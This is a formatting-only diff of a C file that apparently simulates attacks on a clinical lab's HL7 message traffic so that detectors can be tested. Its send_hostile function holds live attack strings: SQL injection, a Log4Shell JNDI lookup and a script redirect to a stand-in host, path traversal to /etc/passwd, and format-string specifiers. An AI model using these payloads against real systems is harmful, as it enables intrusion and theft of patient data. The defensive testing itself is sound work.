@@ -1,4 +1,5 @@
-/* What is staged on request. Attacks on results take a sample of a known kind of analyzer through the lab, so that everything else about it is ordinary. */
+/* What is staged on request. Attacks on results take a sample of a known kind of analyzer through the lab, so that everything else about it is
+ * ordinary. */
 #include "engine/simulate/lab.h"
 
 #include <stdio.h>
@@ -7,10 +8,9 @@
 #define BULK 40                  /* patients asked for in one go */
 #define QUIET (75 * TIME_SECOND) /* no attack before: detectors learn who is who meanwhile */
 
-static const char *const names[ATTACK_COUNT] = {
-    [ATTACK_NONE] = "",
+static const char *const names[ATTACK_COUNT] = {[ATTACK_NONE] = "",
 #define ATTACK_NAME(c, kind) [ATTACK_##c] = kind,
-    SIMULATE_ATTACKS(ATTACK_NAME)
+                                                SIMULATE_ATTACKS(ATTACK_NAME)
 #undef ATTACK_NAME
 };
 
@@ -46,9 +46,7 @@ void attack_shape(struct simulate *s, struct sample *sample)
         if (sample->stage == STAGE_RESENT)
             sample->patient = &s->patients[((size_t)(sample->patient - s->patients) + 1) % PATIENTS];
         break;
-    case ATTACK_RESULT_UNIT_CHANGED:
-        v->unit = v->of->other_unit;
-        break;
+    case ATTACK_RESULT_UNIT_CHANGED: v->unit = v->of->other_unit; break;
     case ATTACK_RESULT_FLAG_MISMATCH:
         v->number = 69;
         v->flags = "N";
@@ -57,8 +55,7 @@ void attack_shape(struct simulate *s, struct sample *sample)
         v->number = v->of->absurd;
         value_flag(v);
         break;
-    default:
-        break;
+    default: break;
     }
 }
 
@@ -67,23 +64,13 @@ void attack_reported(struct simulate *s, struct sample *sample, tq_time at, cons
     bool second = sample->attack == ATTACK_RESULT_ALTERED || sample->attack == ATTACK_RESULT_WRONG_PATIENT;
     const char *field = "OBX-5";
     switch (sample->attack) {
-    case ATTACK_RESULT_WRONG_PATIENT:
-        field = "PID-3";
-        break;
-    case ATTACK_RESULT_UNIT_CHANGED:
-        field = "OBX-6";
-        break;
-    case ATTACK_RESULT_FLAG_MISMATCH:
-        field = "OBX-8";
-        break;
+    case ATTACK_RESULT_WRONG_PATIENT: field = "PID-3"; break;
+    case ATTACK_RESULT_UNIT_CHANGED: field = "OBX-6"; break;
+    case ATTACK_RESULT_FLAG_MISMATCH: field = "OBX-8"; break;
     case ATTACK_RESULT_ALTERED:
-    case ATTACK_RESULT_IMPLAUSIBLE:
-        break;
-    case ATTACK_RESULT_MISSING:
-        field = "";
-        break;
-    default:
-        return;
+    case ATTACK_RESULT_IMPLAUSIBLE: break;
+    case ATTACK_RESULT_MISSING: field = ""; break;
+    default: return;
     }
     if (!second || sample->stage == STAGE_RESENT)
         truth_attack(s, sample->attack, at, control, field, target(sample)->of->code, sample, sample->analyzer->host);
@@ -163,7 +150,8 @@ static void intrude(struct simulate *s, enum simulate_attack kind, struct party 
     sample_release(s, sample);
 }
 
-/* A message whose inside is broken: the frame and MSH are whole, then a patient cut short, bytes that are no segment, and a result without its fields. */
+/* A message whose inside is broken: the frame and MSH are whole, then a patient cut short, bytes that are no segment, and a result without its
+ * fields. */
 static void send_malformed(struct simulate *s, tq_time at)
 {
     char control[CONTROL_TEXT];
@@ -187,8 +175,8 @@ static void send_malformed(struct simulate *s, tq_time at)
 /* A message that is well formed, with text that tries what careless receivers fall for. */
 static void send_hostile(struct simulate *s, tq_time at)
 {
-    static const char *const payloads[] = {"'; DROP TABLE results; --", "${jndi:ldap://198.51.100.66:1389/a}", "<script>document.location='http://198.51.100.66/'</script>",
-                                           "../../../../etc/passwd", "%n%n%n%s%s%s%x"};
+    static const char *const payloads[] = {"'; DROP TABLE results; --", "${jndi:ldap://198.51.100.66:1389/a}",
+                                           "<script>document.location='http://198.51.100.66/'</script>", "../../../../etc/passwd", "%n%n%n%s%s%s%x"};
     char control[CONTROL_TEXT];
     struct analyzer *a = &s->analyzers[0];
     struct sample *sample = order_make(s, a, at);
@@ -264,18 +252,10 @@ static void stage(void *world, tq_time at, void *what)
         as.control += 40000; /* the numbers of somebody who does not know where the true sender is */
         intrude(s, kind, &as, at);
         break;
-    case ATTACK_MESSAGE_MALFORMED:
-        send_malformed(s, at);
-        break;
-    case ATTACK_MESSAGE_HOSTILE:
-        send_hostile(s, at);
-        break;
-    case ATTACK_PHI_BULK_QUERY:
-        query_in_bulk(s, at);
-        break;
-    default:
-        send_sample(s, kind, at);
-        break;
+    case ATTACK_MESSAGE_MALFORMED: send_malformed(s, at); break;
+    case ATTACK_MESSAGE_HOSTILE: send_hostile(s, at); break;
+    case ATTACK_PHI_BULK_QUERY: query_in_bulk(s, at); break;
+    default: send_sample(s, kind, at); break;
     }
 }
 
